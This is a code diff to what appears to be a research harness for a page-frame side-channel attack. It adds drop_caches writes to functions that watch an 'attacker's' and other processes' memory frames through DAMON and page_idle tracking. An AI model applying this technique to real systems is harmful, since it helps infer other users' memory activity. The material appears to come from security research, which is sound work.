@@ -44,6 +44,8 @@ FEW = 1 / 128
 """The part of all page frames that counts as few. The attacker's own frames are included."""
 ROUNDS = 16
 """How often to mark all frames idle. Each round drops frames that other processes used before."""
+DROP_CACHES = "/proc/sys/vm/drop_caches"
+"""Any write also puts new frames on the LRU lists. DAMON and page_idle/bitmap pass over others."""
 PERIOD_MAX = "/proc/sys/kernel/sched_deadline_period_max_us"
 ONCE = struct.pack("<IIQiI3Q", 48, 6, 0, 0, 0, 10_000, 100_000_000_000, 100_000_000_000)
 """struct sched_attr: SCHED_DEADLINE, and nanoseconds of runtime, deadline and period."""
@@ -93,6 +95,7 @@ def damon_of_frame(attacker: Attacker, handler: Handler) -> None:
     """
     frame = handler.physical("chain") // PAGE * PAGE
     damon = Damon(attacker, range(frame, frame + PAGE), "stat")
+    attacker.write_file(DROP_CACHES, b"1")
     told = cleared = False
     for _ in range(LOOKS):
         handler.wait_for_request()
@@ -203,6 +206,7 @@ def page_idle_throttled(attacker: Attacker, handler: Handler) -> None:
     payload = attacker.payload("mark_idle")
     attacker.open(IDLE, O_WRONLY).close()
     attacker.write_file(PERIOD_MAX, b"100000000")
+    attacker.write_file(DROP_CACHES, b"1")
     for _ in range(WALKERS):
         with attacker.setup():
             said, writer = attacker.pipe()
